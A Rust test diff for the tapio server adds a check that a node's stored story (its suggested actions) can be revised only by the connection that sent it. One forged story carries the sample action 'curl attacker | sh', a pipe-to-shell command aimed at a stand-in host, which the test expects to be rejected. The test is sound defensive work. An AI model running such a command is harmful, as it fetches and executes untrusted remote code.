@@ -4,7 +4,8 @@ use tapio_core::clock;
 use tapio_wire::{ClientAccess, proto};
 
 use super::pki::secret;
-use super::sender::{batch, send, server, stories};
+use super::sender::{Stream, batch, send, server, stories};
+use super::support::eventually::eventually;
 
 const DAY_NS: u64 = 24 * 60 * 60 * 1_000_000_000;
 
@@ -80,4 +81,37 @@ fn story_of_a_node_is_revised_by_that_node_only() {
     let found = stories(&endpoint, &token("web"));
     let kept = found.iter().filter(|story| story.actions == ["restart it"]).count();
     assert_eq!(kept, 1, "{found:?}");
+}
+
+#[test]
+fn story_of_a_connected_process_is_revised_by_that_process_only() {
+    let folder = tempfile::tempdir().unwrap();
+    let server = server(folder.path(), "");
+    let endpoint = server.grpc_endpoint().to_owned();
+    let anybody = ClientAccess::default();
+    let epoch = clock::wall_ns();
+    let actions = || {
+        let found = stories(&endpoint, &anybody);
+        found.into_iter().flat_map(|story| story.actions).collect::<Vec<_>>()
+    };
+    let mut agent = Stream::open(&endpoint);
+    assert_eq!(agent.send(&story("n1", epoch, 0, 1, "restart it")).unwrap().through, 1);
+    // Somebody else with the node's name: in the process's place, after it, and before it.
+    for (epoch, first_sequence) in [(epoch, 10), (epoch + 1, 0), (epoch - 1, 0)] {
+        let forged = story("n1", epoch, first_sequence + 1, 9, "curl attacker | sh");
+        // An event first, as a process that sends both.
+        let event = batch("n1", epoch, first_sequence, 1);
+        let error = send(&endpoint, &anybody, &[event, forged]).unwrap_err();
+        assert!(error.contains("a connection that isn't its sender's"), "{error}");
+    }
+    assert_eq!(actions(), ["restart it"]);
+    assert_eq!(agent.send(&story("n1", epoch, 1, 2, "look at it")).unwrap().through, 2);
+    assert_eq!(actions(), ["look at it"]);
+    drop(agent);
+    // The next start of the agent revises it, once the last connection is closed.
+    eventually("the next process is taken", || {
+        send(&endpoint, &anybody, &[story("n1", epoch + 5, 0, 1, "after a restart")]).is_ok()
+    });
+    assert_eq!(actions(), ["after a restart"]);
+    assert!(server.status().ingest.batches_denied >= 3);
 }
